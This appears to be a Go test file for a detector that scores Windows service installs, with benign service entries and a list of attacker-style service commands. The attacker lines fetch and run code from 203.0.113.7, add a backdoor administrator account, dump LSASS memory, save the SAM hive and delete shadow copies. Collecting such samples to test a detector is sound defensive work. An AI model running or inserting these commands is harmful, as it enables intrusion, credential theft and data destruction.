package score_test

import (
	"strings"
	"testing"

	"github.com/osquery-rollcall/rollcall/extension/evidence"
	"github.com/osquery-rollcall/rollcall/extension/score"
	"github.com/osquery-rollcall/rollcall/extension/service"
)

// ordinary are services and drivers as Windows and ordinary software install
// them: name, image path, type, account.
const ordinary = `
AdobeARMservice|"C:\Program Files (x86)\Common Files\Adobe\ARM\1.0\armsvc.exe"|0x10|LocalSystem
AGSService|"C:\Program Files (x86)\Common Files\Adobe\AdobeGCClient\AGSService.exe"|user mode service|LocalSystem
Apache2.4|"C:\Apache24\bin\httpd.exe" -k runservice|0x10|LocalSystem
Tomcat9|"C:\Program Files\Apache Software Foundation\Tomcat 9.0\bin\Tomcat9.exe" //RS//Tomcat9|0x10|NT AUTHORITY\LocalService
Jenkins|"C:\Program Files\Jenkins\jenkins.exe"|0x10|.\jenkins
MSSQLSERVER|"C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe" -sMSSQLSERVER|0x10|NT Service\MSSQLSERVER
SQL Server (SQLEXPRESS)|"C:\Program Files\Microsoft SQL Server\MSSQL14.SQLEXPRESS\MSSQL\Binn\sqlservr.exe" -sSQLEXPRESS|user mode service|NT Service\MSSQL$SQLEXPRESS
SQLSERVERAGENT|"C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\SQLAGENT.EXE" -i MSSQLSERVER|0x10|CORP\svc_sqlagent
SQLBrowser|"C:\Program Files (x86)\Microsoft SQL Server\90\Shared\sqlbrowser.exe"|0x10|NT AUTHORITY\LOCALSERVICE
SQLWriter|"C:\Program Files\Microsoft SQL Server\90\Shared\sqlwriter.exe"|0x10|LocalSystem
ReportServer|"C:\Program Files\Microsoft SQL Server\MSRS11.MSSQLSERVER\Reporting Services\ReportServer\bin\ReportingServicesService.exe"|0x10|NT Service\ReportServer
MySQL80|"C:\Program Files\MySQL\MySQL Server 8.0\bin\mysqld.exe" --defaults-file="C:\ProgramData\MySQL\MySQL Server 8.0\my.ini" MySQL80|0x10|NT AUTHORITY\NetworkService
postgresql-x64-15|"C:\Program Files\PostgreSQL\15\bin\pg_ctl.exe" runservice -N "postgresql-x64-15" -D "C:\Program Files\PostgreSQL\15\data" -w|0x10|NT AUTHORITY\NetworkService
MongoDB|"C:\Program Files\MongoDB\Server\6.0\bin\mongod.exe" --config "C:\Program Files\MongoDB\Server\6.0\bin\mongod.cfg" --service|0x10|NT AUTHORITY\NetworkService
Redis|"C:\Program Files\Redis\redis-server.exe" --service-run "C:\Program Files\Redis\redis.windows-service.conf"|0x10|NT AUTHORITY\NetworkService
OracleServiceORCL|c:\app\oracle\product\12.2.0\dbhome_1\bin\ORACLE.EXE ORCL|0x10|NT SERVICE\OracleServiceORCL
OracleOraDB12Home1TNSListener|C:\app\oracle\product\12.2.0\dbhome_1\BIN\TNSLSNR|0x10|.\oracle
wampapache64|"c:\wamp64\bin\apache\apache2.4.46\bin\httpd.exe" -k runservice|0x10|LocalSystem
wampmysqld64|c:\wamp64\bin\mysql\mysql5.7.31\bin\mysqld.exe wampmysqld64|0x10|LocalSystem
mysql|C:\xampp\mysql\bin\mysqld.exe --defaults-file=c:\xampp\mysql\bin\my.ini mysql|0x10|LocalSystem
FileZilla Server|"C:\Program Files\FileZilla Server\filezilla-server.exe"|user mode service|LocalSystem
WindowsAzureGuestAgent|C:\WindowsAzure\GuestAgent_2.7.1\WindowsAzureGuestAgent.exe|0x10|LocalSystem
nginx|C:\nginx\nginx-service.exe|0x10|LocalSystem
ClickToRunSvc|"C:\Program Files\Common Files\Microsoft Shared\ClickToRun\OfficeClickToRun.exe" /service|0x10|LocalSystem
ose64|"C:\Program Files\Common Files\Microsoft Shared\Source Engine\OSE.EXE"|0x10|LocalSystem
Office Software Protection Platform|"C:\Program Files\Common Files\Microsoft Shared\OfficeSoftwareProtectionPlatform\OSPPSVC.EXE"|user mode service|NT AUTHORITY\NetworkService
edgeupdate|"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe" /svc|0x10|LocalSystem
Google Chrome Elevation Service (GoogleChromeElevationService)|"C:\Program Files\Google\Chrome\Application\119.0.6045.160\elevation_service.exe"|user mode service|LocalSystem
GoogleUpdaterService120.0.6050.0|"C:\Program Files (x86)\Google\GoogleUpdater\120.0.6050.0\updater.exe" --system --windows-service --service=update|0x10|LocalSystem
MozillaMaintenance|"C:\Program Files (x86)\Mozilla Maintenance Service\maintenanceservice.exe"|0x10|LocalSystem
BraveElevationService|"C:\Program Files\BraveSoftware\Brave-Browser\Application\118.1.59.117\elevation_service.exe"|0x10|LocalSystem
Dropbox Update Service (dbupdate)|"C:\Program Files (x86)\Dropbox\Update\DropboxUpdate.exe" /svc|user mode service|LocalSystem
DbxSvc|C:\WINDOWS\system32\DbxSvc.exe|0x10|LocalSystem
Bonjour Service|"C:\Program Files\Bonjour\mDNSResponder.exe"|user mode service|LocalSystem
Apple Mobile Device Service|"C:\Program Files\Common Files\Apple\Mobile Device Support\AppleMobileDeviceService.exe"|user mode service|LocalSystem
iPod Service|"C:\Program Files\iPod\bin\iPodService.exe"|user mode service|LocalSystem
Steam Client Service|"C:\Program Files (x86)\Common Files\Steam\steamservice.exe" /RunAsService|user mode service|LocalSystem
EasyAntiCheat|"C:\Program Files (x86)\EasyAntiCheat\EasyAntiCheat.exe"|0x10|LocalSystem
BEService|"C:\Program Files (x86)\Common Files\BattlEye\BEService.exe"|0x10|LocalSystem
vgc|"C:\Program Files\Riot Vanguard\vgc.exe"|0x10|LocalSystem
vgk|\??\C:\Program Files\Riot Vanguard\vgk.sys|0x1|
Origin Web Helper Service|"C:\Program Files (x86)\Origin\OriginWebHelperService.exe"|user mode service|LocalSystem
VMTools|"C:\Program Files\VMware\VMware Tools\vmtoolsd.exe"|0x10|LocalSystem
VGAuthService|"C:\Program Files\VMware\VMware Tools\VMware VGAuth\VGAuthService.exe"|0x10|LocalSystem
VMware NAT Service|C:\Windows\SysWOW64\vmnat.exe|user mode service|LocalSystem
VMnetDHCP|C:\Windows\SysWOW64\vmnetdhcp.exe|0x10|LocalSystem
VMUSBArbService|"C:\Program Files (x86)\Common Files\VMware\USB\vmware-usbarbitrator64.exe"|0x10|LocalSystem
vmx86|\SystemRoot\system32\DRIVERS\vmx86.sys|0x1|
VBoxSDS|"C:\Program Files\Oracle\VirtualBox\VBoxSDS.exe"|0x10|LocalSystem
VBoxNetLwf|\SystemRoot\system32\DRIVERS\VBoxNetLwf.sys|kernel mode driver|
QEMU-GA|"C:\Program Files\Qemu-ga\qemu-ga.exe" -d --retry-path|0x10|LocalSystem
BalloonService|C:\Windows\System32\blnsvr.exe|0x10|LocalSystem
spice-agent|C:\Program Files (x86)\SPICE Guest Tools\64\vdservice.exe|0x10|LocalSystem
AmazonSSMAgent|"C:\Program Files\Amazon\SSM\amazon-ssm-agent.exe"|0x10|LocalSystem
Ec2Config|"C:\Program Files\Amazon\Ec2ConfigService\Ec2Config.exe"|0x10|LocalSystem
WindowsAzureGuestAgent|C:\WindowsAzure\Packages\WaAppAgent.exe|0x10|LocalSystem
RdAgent|C:\WindowsAzure\Packages\GuestAgent\WindowsAzureGuestAgent.exe|0x10|LocalSystem
himds|"C:\Program Files\AzureConnectedMachineAgent\himds.exe"|0x10|NT SERVICE\himds
CSFalconService|"C:\Program Files\CrowdStrike\CSFalconService.exe"|0x10|LocalSystem
CSAgent|\??\C:\Windows\system32\drivers\CrowdStrike\csagent.sys|file system driver|
SentinelAgent|"C:\Program Files\SentinelOne\Sentinel Agent 22.2.3.402\SentinelAgent.exe"|0x10|LocalSystem
CylanceSvc|"C:\Program Files\Cylance\Desktop\CylanceSvc.exe"|0x10|LocalSystem
MBAMService|"C:\Program Files\Malwarebytes\Anti-Malware\MBAMService.exe"|0x10|LocalSystem
MBAMSwissArmy|\SystemRoot\System32\Drivers\mbamswissarmy.sys|0x1|
SepMasterService|"C:\Program Files\Symantec\Symantec Endpoint Protection\14.3.558.0000.105\Bin64\ccSvcHst.exe" /s "Symantec Endpoint Protection" /m "C:\Program Files\Symantec\x.dll" /prefetch:1|0x10|LocalSystem
ekrn|"C:\Program Files\ESET\ESET Security\ekrn.exe"|0x10|LocalSystem
AVP21.3|"C:\Program Files (x86)\Kaspersky Lab\Kaspersky Internet Security 21.3\avp.exe" -r|0x10|LocalSystem
avast! Antivirus|"C:\Program Files\Avast Software\Avast\AvastSvc.exe" /runassvc|user mode service|LocalSystem
aswSP|\SystemRoot\system32\drivers\aswSP.sys|file system driver|
Sophos Health Service|"C:\Program Files\Sophos\Health\Bin\SophosHealth.exe"|user mode service|LocalSystem
mfevtp|"C:\Windows\system32\mfevtps.exe"|0x10|LocalSystem
ntrtscan|"C:\Program Files (x86)\Trend Micro\OfficeScan Client\ntrtscan.exe"|0x10|LocalSystem
WinDefend|"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.23090.2008-0\MsMpEng.exe"|0x10|LocalSystem
Microsoft Defender Antivirus Network Inspection Service|"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.23090.2008-0\NisSrv.exe"|user mode service|NT AUTHORITY\LocalService
MpKsl5e2a1c07|C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{0B2C4B9E-11FA-4A3F-93B0-8A5B61C2F6C1}\MpKslDrv.sys|kernel mode driver|
MpKslabcdef12|\??\c:\ProgramData\Microsoft\Windows Defender\Definition Updates\Default\MpKslDrv.sys|kernel mode driver|
MpKsl1f2e3d4c|c:\ProgramData\Microsoft\Microsoft Antimalware\Definition Updates\{6F1B2E3C-9C1D-4F73-8A0B-6B7B0D0F1A2E}\MpKsl1f2e3d4c.sys|kernel mode driver|
MsMpSvc|"C:\Program Files\Microsoft Security Client\MsMpEng.exe"|0x10|LocalSystem
Microsoft Hyper-V Heartbeat|C:\Windows\System32\vmicsvc.exe -feature Heartbeat|user mode service|NT AUTHORITY\NetworkService
Sense|"C:\Program Files\Windows Defender Advanced Threat Protection\MsSense.exe"|0x10|LocalSystem
CcmExec|C:\Windows\CCM\CcmExec.exe|0x10|LocalSystem
ccmsetup|"C:\Windows\ccmsetup\ccmsetup.exe" /runservice /mp:SCCM01 SMSSITECODE=P01|0x10|LocalSystem
IntuneManagementExtension|"C:\Program Files (x86)\Microsoft Intune Management Extension\Microsoft.Management.Services.IntuneWindowsAgent.exe"|0x10|LocalSystem
HealthService|"C:\Program Files\Microsoft Monitoring Agent\Agent\HealthService.exe"|0x10|LocalSystem
PDQInventory|"C:\Program Files (x86)\Admin Arsenal\PDQ Inventory\PDQInventoryService.exe"|0x10|CORP\svc_pdq
chef-client|"C:\opscode\chef\embedded\bin\ruby.exe" "C:\opscode\chef\bin\chef-windows-service"|0x10|LocalSystem
puppet|"C:\Program Files\Puppet Labs\Puppet\puppet\bin\rubyw.exe" "C:\Program Files\Puppet Labs\Puppet\service\daemon.rb"|0x10|LocalSystem
salt-minion|"C:\Program Files\Salt Project\Salt\ssm.exe"|0x10|LocalSystem
Zabbix Agent|"C:\Program Files\Zabbix Agent\zabbix_agentd.exe" --config "C:\Program Files\Zabbix Agent\zabbix_agentd.conf"|user mode service|LocalSystem
SplunkForwarder|"C:\Program Files\SplunkUniversalForwarder\bin\splunkd.exe" service|0x10|NT SERVICE\SplunkForwarder
winlogbeat|"C:\Program Files\Winlogbeat\winlogbeat.exe" -c "C:\Program Files\Winlogbeat\winlogbeat.yml" -path.home "C:\Program Files\Winlogbeat" -path.data "C:\ProgramData\winlogbeat"|0x10|LocalSystem
winlogbeat|"C:\winlogbeat\winlogbeat.exe" -c "C:\winlogbeat\winlogbeat.yml" -path.home "C:\winlogbeat"|0x10|LocalSystem
nxlog|"C:\Program Files (x86)\nxlog\nxlog.exe" -c "C:\Program Files (x86)\nxlog\conf\nxlog.conf"|0x10|LocalSystem
osqueryd|"C:\Program Files\osquery\osqueryd\osqueryd.exe" --flagfile="C:\Program Files\osquery\osquery.flags"|0x10|LocalSystem
OssecSvc|"C:\Program Files (x86)\ossec-agent\wazuh-agent.exe"|0x10|LocalSystem
Datadog Agent|"C:\Program Files\Datadog\Datadog Agent\bin\agent.exe"|user mode service|.\ddagentuser
windows_exporter|"C:\Program Files\windows_exporter\windows_exporter.exe" --log.file eventlog --web.listen-address 0.0.0.0:9182|0x10|LocalSystem
Sysmon64|C:\Windows\Sysmon64.exe|0x10|LocalSystem
SysmonDrv|SysmonDrv.sys|0x1|
npcap|\SystemRoot\system32\DRIVERS\npcap.sys|0x1|
NPF|system32\drivers\npf.sys|0x1|
USBPcap|\SystemRoot\system32\DRIVERS\USBPcap.sys|0x1|
com.docker.service|"C:\Program Files\Docker\Docker\com.docker.service"|0x10|LocalSystem
docker|"C:\Program Files\Docker\dockerd.exe" --run-service -H npipe:////./pipe/docker_engine|0x10|LocalSystem
kubelet|C:\k\kubelet.exe --windows-service --v=6 --hostname-override=node1|0x10|LocalSystem
OpenVPNServiceInteractive|"C:\Program Files\OpenVPN\bin\openvpnserv2.exe"|0x10|LocalSystem
tap0901|\SystemRoot\System32\drivers\tap0901.sys|0x1|
WireGuardManager|"C:\Program Files\WireGuard\wireguard.exe" /managerservice|0x10|LocalSystem
WireGuardTunnel$office|"C:\Program Files\WireGuard\wireguard.exe" /tunnelservice "C:\Program Files\WireGuard\Data\Configurations\office.conf.dpapi"|0x10|LocalSystem
vpnagent|"C:\Program Files (x86)\Cisco\Cisco AnyConnect Secure Mobility Client\vpnagent.exe"|0x10|LocalSystem
PanGPS|"C:\Program Files\Palo Alto Networks\GlobalProtect\PanGPS.exe"|0x10|LocalSystem
ZSAService|"C:\Program Files\Zscaler\ZSAService\ZSAService.exe"|0x10|LocalSystem
sshd|C:\WINDOWS\System32\OpenSSH\sshd.exe|0x10|LocalSystem
OpenSSH SSH Server|"C:\Program Files\OpenSSH\sshd.exe"|user mode service|LocalSystem
igfxCUIService2.0.0.0|C:\WINDOWS\System32\DriverStore\FileRepository\cui_dch.inf_amd64_1d2a\igfxCUIService.exe|0x10|LocalSystem
Intel(R) HD Graphics Control Panel Service|%SystemRoot%\system32\igfxCUIService.exe|user mode service|LocalSystem
jhi_service|C:\WINDOWS\System32\DriverStore\FileRepository\dal.inf_amd64_b5484efd38adbe8d\jhi_service.exe|0x10|LocalSystem
LMS|"C:\Program Files (x86)\Intel\Intel(R) Management Engine Components\LMS\LMS.exe"|0x10|LocalSystem
MEIx64|\SystemRoot\System32\drivers\TeeDriverW8x64.sys|0x1|
iaStorAC|\SystemRoot\System32\drivers\iaStorAC.sys|0x1|
NVDisplay.ContainerLocalSystem|"C:\Windows\System32\DriverStore\FileRepository\nv_dispi.inf_amd64_e1a\Display.NvContainer\NVDisplay.Container.exe" -s NVDisplay.ContainerLocalSystem -f "C:\ProgramData\NVIDIA\%NVDisplay.ContainerLocalSystem%.log" -l 3 -d C:\Windows\x -r|0x10|LocalSystem
NVIDIA Display Driver Service|%SystemRoot%\system32\nvvsvc.exe|user mode service|LocalSystem
nvlddmkm|\SystemRoot\System32\DriverStore\FileRepository\nv_dispi.inf_amd64_e1a\nvlddmkm.sys|0x1|
AMD External Events Utility|C:\Windows\System32\DriverStore\FileRepository\u0350.inf_amd64\atiesrxx.exe|user mode service|LocalSystem
AMD External Events Utility|%SystemRoot%\system32\atiesrxx.exe|user mode service|LocalSystem
Realtek Audio Service|C:\Program Files\Realtek\Audio\HDA\RtkAudioService64.exe|user mode service|LocalSystem
RtkAudioUniversalService|"C:\WINDOWS\System32\DriverStore\FileRepository\realtekservice.inf_amd64_cf\RtkAudUService64.exe"|0x10|LocalSystem
rt640x64|\SystemRoot\System32\drivers\rt640x64.sys|0x1|
Intel(R) Ethernet Connection I217-LM Driver|\SystemRoot\System32\drivers\e1d65x64.sys|kernel mode driver|
SynTPEnhService|"C:\WINDOWS\System32\SynTPEnhService.exe"|0x10|LocalSystem
AtherosSvc|C:\Windows\System32\drivers\AdminService.exe|0x10|LocalSystem
ImControllerService|"C:\WINDOWS\Lenovo\ImController\Service\Lenovo.Modern.ImController.exe"|0x10|LocalSystem
LenovoVantageService|"C:\Program Files (x86)\Lenovo\VantageService\3.13.43.0\LenovoVantageService.exe"|0x10|LocalSystem
HPSupportSolutionsFrameworkService|"C:\Program Files (x86)\Hewlett-Packard\HP Support Solutions\HPSupportSolutionsFrameworkService.exe"|0x10|LocalSystem
HP Software Framework Service|"C:\Program Files (x86)\HP\Shared\hpqwmiex.exe"|user mode service|LocalSystem
DellClientManagementService|"C:\Program Files (x86)\Dell\UpdateService\ServiceShell.exe"|0x10|LocalSystem
SupportAssistAgent|"C:\Program Files\Dell\SupportAssistAgent\bin\SupportAssistAgent.exe"|0x10|LocalSystem
ArmouryCrateService|"C:\Program Files\ASUS\ARMOURY CRATE Service\ArmouryCrate.Service.exe"|0x10|LocalSystem
RzActionSvc|"C:\Program Files (x86)\Razer\Razer Services\Razer Central\RazerCentralService.exe"|0x10|LocalSystem
LGHUBUpdaterService|"C:\Program Files\LGHUB\lghub_updater.exe" --run-as-service|0x10|LocalSystem
hasplms|C:\WINDOWS\system32\hasplms.exe -run|0x10|LocalSystem
FLEXnet Licensing Service|"C:\Program Files (x86)\Common Files\Macrovision Shared\FLEXnet Publisher\FNPLicensingService.exe"|user mode service|LocalSystem
CodeMeter.exe|"C:\Program Files (x86)\CodeMeter\Runtime\bin\CodeMeter.exe"|0x10|LocalSystem
QBCFMonitorService|"C:\Program Files (x86)\Common Files\Intuit\QuickBooks\QBCFMonitorService.exe"|0x10|LocalSystem
BrYNSvc|"C:\Program Files (x86)\Browny02\BrYNSvc.exe"|0x10|LocalSystem
EPSON_PM_RPCV4_06|C:\ProgramData\EPSON\EPW!3 SSRP\E_S60RPB.EXE|0x10|LocalSystem
WTabletServicePro|"C:\Program Files\Tablet\Wacom\WTabletServicePro.exe"|0x10|LocalSystem
VeeamEndpointBackupSvc|"C:\Program Files\Veeam\Endpoint Backup\Veeam.EndPoint.Service.exe"|0x10|LocalSystem
AcrSch2Svc|"C:\Program Files (x86)\Common Files\Acronis\Schedule2\schedul2.exe"|0x10|LocalSystem
MacriumService|"C:\Program Files\Macrium\Common\MacriumService.exe"|0x10|LocalSystem
MSExchangeIS|"C:\Program Files\Microsoft\Exchange Server\V15\bin\Microsoft.Exchange.Store.Service.exe"|0x10|LocalSystem
MSExchangeTransport|"C:\Program Files\Microsoft\Exchange Server\V15\Bin\MSExchangeTransport.exe"|0x10|NT AUTHORITY\NETWORK SERVICE
ADSync|"C:\Program Files\Microsoft Azure AD Sync\Bin\miiserver.exe"|0x10|CORP\adsync$
ADWS|C:\Windows\ADWS\Microsoft.ActiveDirectory.WebServices.exe|0x10|LocalSystem
DNS|%systemroot%\system32\dns.exe|0x10|LocalSystem
DNS Server|%systemroot%\system32\dns.exe|user mode service|LocalSystem
DHCPServer|%systemroot%\system32\svchost.exe -k DHCPServer -p|0x20|NT AUTHORITY\NetworkService
NetTcpPortSharing|C:\Windows\Microsoft.NET\Framework64\v4.0.30319\SMSvcHost.exe|0x20|NT AUTHORITY\LocalService
Net.Tcp Listener Adapter|"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\SMSvcHost.exe" -NetMsmqActivator|user mode service|NT AUTHORITY\NetworkService
World Wide Web Publishing Service|%windir%\system32\svchost.exe -k iissvcs|user mode service|LocalSystem
Windows Process Activation Service|%windir%\system32\svchost.exe -k iissvcs|user mode service|LocalSystem
W3SVC|C:\Windows\system32\svchost.exe -k iissvcs|0x20|LocalSystem
COM+ System Application|C:\Windows\system32\dllhost.exe /Processid:{02D4B3F1-FD88-11D1-960D-00805FC79235}|user mode service|LocalSystem
Microsoft Software Shadow Copy Provider|%SystemRoot%\System32\svchost.exe -k swprv|user mode service|LocalSystem
Windows Installer|%systemroot%\system32\msiexec.exe /V|user mode service|LocalSystem
TrustedInstaller|%SystemRoot%\servicing\TrustedInstaller.exe|0x10|localSystem
Windows Search|%systemroot%\system32\SearchIndexer.exe /Embedding|user mode service|LocalSystem
Print Spooler|%SystemRoot%\System32\spoolsv.exe|user mode service|LocalSystem
Windows Media Player Network Sharing Service|"%PROGRAMFILES%\Windows Media Player\wmpnetwk.exe"|user mode service|NT AUTHORITY\NetworkService
Microsoft .NET Framework NGEN v4.0.30319_X64|C:\Windows\Microsoft.NET\Framework64\v4.0.30319\mscorsvw.exe|user mode service|LocalSystem
clr_optimization_v4.0.30319_32|C:\Windows\Microsoft.NET\Framework\v4.0.30319\mscorsvw.exe|0x10|LocalSystem
aspnet_state|%SystemRoot%\Microsoft.NET\Framework64\v4.0.30319\aspnet_state.exe|0x10|NT AUTHORITY\NetworkService
OneSyncSvc_4c1e2|C:\WINDOWS\system32\svchost.exe -k UnistackSvcGroup|0xe0|LocalSystem
CredentialEnrollmentManagerUserSvc_1f9a3c|C:\WINDOWS\system32\CredentialEnrollmentManager.exe|0xd0|LocalSystem
UserDataSvc_3ad51|C:\WINDOWS\system32\svchost.exe -k UnistackSvcGroup|224|LocalSystem
cbdhsvc_5f1a0|C:\WINDOWS\system32\svchost.exe -k ClipboardSvcGroup -p|0xe0|
BcastDVRUserService_8b2f1|C:\WINDOWS\system32\svchost.exe -k BcastDVRUserService|user mode share process instance|LocalSystem
PrintWorkflowUserSvc_2b1c4|C:\Windows\system32\svchost.exe -k PrintWorkflow|0xe0|LocalSystem
UdkUserSvc_77a2e|C:\Windows\system32\svchost.exe -k UdkSvcGroup|0xe0|LocalSystem
GoogleUpdate|C:\PROGRA~2\Google\Update\GOOGLE~1.EXE /svc|0x10|LocalSystem
MpsSvc|%SystemRoot%\system32\svchost.exe -k LocalServiceNoNetworkFirewall -p|0x20|NT Authority\LocalService
WUDFRd|\SystemRoot\System32\drivers\WUDFRd.sys|0x1|
HidUsb|\SystemRoot\System32\drivers\hidusb.sys|kernel mode driver|
USB Mass Storage Driver|\SystemRoot\System32\drivers\USBSTOR.SYS|kernel mode driver|
High-Capacity Floppy Disk Drive|\SystemRoot\System32\drivers\sfloppy.sys|kernel mode driver|
Microsoft Hyper-V Virtual Machine Bus Provider|\SystemRoot\System32\drivers\vmbusr.sys|kernel mode driver|
FileInfo|System32\drivers\fileinfo.sys|file system driver|
ReFS|C:\Windows\System32\drivers\refs.sys|0x2|
dg_ssudbus|\SystemRoot\system32\DRIVERS\ssudbus.sys|0x1|
libusb0|\SystemRoot\system32\DRIVERS\libusb0.sys|0x1|
FTDIBUS|\SystemRoot\system32\drivers\ftdibus.sys|0x1|
Silicon Labs CP210x USB to UART Bridge Driver|\SystemRoot\System32\drivers\silabser.sys|kernel mode driver|
PROCMON24|\??\C:\Windows\system32\Drivers\PROCMON24.SYS|0x1|
PROCEXP152|\??\C:\Windows\system32\Drivers\PROCEXP152.SYS|0x1|
HWiNFO|\??\C:\Program Files\HWiNFO64\HWiNFO64A.SYS|0x1|
Everything|"C:\Program Files\Everything\Everything.exe" -svc|0x10|LocalSystem
TeamCity Agent|C:\BuildAgent\launcher\bin\TeamCityAgentService-windows-x86-64.exe jetservice "-settings=C:\BuildAgent\launcher\conf\wrapper.conf"|user mode service|LocalSystem
vstsagent.contoso.Default.BUILD01|"C:\agent\bin\AgentService.exe"|0x10|NT AUTHORITY\NETWORK SERVICE
gitlab-runner|C:\GitLab-Runner\gitlab-runner.exe run --working-directory C:\GitLab-Runner --config C:\GitLab-Runner\config.toml --service gitlab-runner|0x10|LocalSystem
Grafana|"C:\Program Files\GrafanaLabs\svc-12.0\nssm.exe"|0x10|LocalSystem
elasticsearch-service-x64|"C:\elasticsearch\bin\elasticsearch-service-x64.exe" //RS//elasticsearch-service-x64|0x10|LocalSystem
Plex Update Service|"C:\Program Files (x86)\Plex\Plex Media Server\Plex Update Service.exe"|user mode service|LocalSystem
hMailServer|"C:\Program Files (x86)\hMailServer\Bin\hMailServer.exe" RunAsService|0x10|LocalSystem
PaperCut Print Provider|"C:\Program Files\PaperCut MF\providers\print\win\pc-print.exe"|user mode service|LocalSystem
Lansweeper Server|C:\Program Files (x86)\Lansweeper\Service\LansweeperService.exe|user mode service|LocalSystem
PRTG Probe Service|"C:\Program Files (x86)\PRTG Network Monitor\PRTG Probe.exe"|user mode service|LocalSystem
NSClient++ (x64)|"C:\Program Files\NSClient++\nscp.exe" service --run --name nscp|user mode service|LocalSystem
BITS|%SystemRoot%\System32\svchost.exe -k netsvcs -p|0x20|LocalSystem
uhssvc|"C:\Program Files\Microsoft Update Health Tools\uhssvc.exe"|0x10|LocalSystem
Druckwarteschlange|%SystemRoot%\System32\spoolsv.exe|Benutzermodusdienst|LocalSystem
`

type row struct {
	name string
	in   service.Install
}

func rows(t *testing.T, text string) []row {
	t.Helper()
	var out []row
	for line := range strings.SplitSeq(strings.TrimSpace(text), "\n") {
		// An image path may hold the separator, the other fields don't.
		first, last := strings.IndexByte(line, '|'), strings.LastIndexByte(line, '|')
		mid := strings.LastIndexByte(line[:max(last, 0)], '|')
		if first < 0 || mid <= first {
			t.Fatalf("not a row: %s", line)
		}
		kind := service.ParseType(line[mid+1 : last])
		name, path := line[:first], line[first+1:mid]
		out = append(out, row{line, service.Install{Kind: service.KindOf(kind, name, path), Name: name, ImagePath: path, Type: kind, Start: service.StartUnknown, Account: line[last+1:]}})
	}
	return out
}

func judge(in service.Install) score.Verdict {
	return score.Install(service.Features(in), nil, score.DefaultWeights())
}

func TestOrdinarySoftwareStaysQuiet(t *testing.T) {
	all := rows(t, ordinary)
	if len(all) < 150 {
		t.Fatalf("%d rows", len(all))
	}
	low := 0
	for _, r := range all {
		v := judge(r.in)
		if v.Score >= 40 {
			t.Errorf("%d %s: %s\n%s", v.Score, v.Severity, r.name, v.Explain())
		} else if v.Score >= 20 {
			low++
			t.Logf("%d %s: %s %+v", v.Score, v.Severity, r.name, v.Reasons[1:])
		}
	}
	t.Logf("%d of %d at low, the others informational", low, len(all))
	if low > len(all)/8 {
		t.Errorf("%d of %d are low, at most an eighth may be", low, len(all))
	}
}

// attacks are installs as the public frameworks and attackers make them, with
// payloads cut out.
const attacks = `
BTOB|%systemroot%\kJhGqZwX.exe|user mode service|LocalSystem
xQvm|%SystemRoot%\tPbXrLqD.exe|0x10|LocalSystem
pXwRtYbNqKvZ|%SYSTEMROOT%\WqRtNbXz.exe|user mode service|LocalSystem
qhznvk|C:\Windows\qhznvk.exe|0x10|LocalSystem
9f3e1ab|\\10.1.2.3\ADMIN$\9f3e1ab.exe|user mode service|LocalSystem
0c7be51|\\127.0.0.1\ADMIN$\0c7be51.exe|0x10|LocalSystem
a7d90e2|%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtAA==|user mode service|LocalSystem
ab12cd3|C:\Windows\ab12cd3.exe|user mode service|LocalSystem
tfmqxw|cmd.exe /c echo tfmqxw > \\.\pipe\tfmqxw|user mode service|LocalSystem
1b2f77|C:\Windows\system32\cmd.exe /c echo 1a9fcd04e11 > \\.\pipe\5fa2b1|user mode service|LocalSystem
svchelp|C:\Windows\System32\svchost.exe|0x10|LocalSystem
gdrv2|C:\Windows\RTCore64.sys|0x1|
errorsvc|C:\Windows\WinSxS\amd64_error-reporting_31bf3856ad364e35_10.0.1.1_none_ab\WerFault.exe|0x10|LocalSystem
rollout|\\CORP\SYSVOL\corp.example\scripts\run.exe|0x10|LocalSystem
KzbVSUqe|%COMSPEC% /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\run.bat & %COMSPEC% /Q /c %TEMP%\run.bat & del %TEMP%\run.bat|user mode service|LocalSystem
svcwork|C:\Windows\system32\cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1700000000.12 2>&1|0x10|LocalSystem
Updater|%COMSPEC% /C start /b C:\Windows\System32\WindowsPowershell\v1.0\powershell -noP -sta -w 1 -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA|0x10|LocalSystem
Windows Update Helper|powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')"|0x10|LocalSystem
helper|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -ep bypass -file C:\Users\Public\a.ps1|0x10|LocalSystem
zlqwpe|rundll32.exe C:\Users\ADMIN~1\AppData\Local\Temp\zlqwpe.dll,a /p:zlqwpe|user mode service|LocalSystem
netcfg|rundll32.exe C:\ProgramData\netcfg.dll,Start|0x10|LocalSystem
scriptlet|regsvr32.exe /s /n /u /i:http://203.0.113.7/x.sct scrobj.dll|0x10|LocalSystem
hta|mshta.exe http://203.0.113.7/x.hta|0x10|LocalSystem
wsh|C:\Windows\System32\wscript.exe //B C:\Users\Public\run.vbs|0x10|LocalSystem
dl|cmd.exe /c certutil -urlcache -split -f http://203.0.113.7/b.exe C:\Windows\Temp\b.exe && C:\Windows\Temp\b.exe|0x10|LocalSystem
bits|cmd.exe /c bitsadmin /transfer j http://203.0.113.7/b.exe C:\ProgramData\b.exe & C:\ProgramData\b.exe|0x10|LocalSystem
adduser|cmd.exe /c net user backdoor P4ss /add && net localgroup administrators backdoor /add|0x10|LocalSystem
dump|C:\Windows\System32\cmd.exe /c rundll32 C:\windows\system32\comsvcs.dll, MiniDump 624 C:\l.dmp full|0x10|LocalSystem
hives|cmd /c reg save HKLM\SAM C:\Windows\Temp\s|0x10|LocalSystem
recovery|cmd /c vssadmin delete shadows /all /quiet|0x10|LocalSystem
svchost|C:\Windows\Temp\svchost.exe|0x10|LocalSystem
Windows Host Service|C:\ProgramData\Intel\svchost.exe|0x10|LocalSystem
Spooler Helper|C:\Windows\spoolsv.exe|0x10|LocalSystem
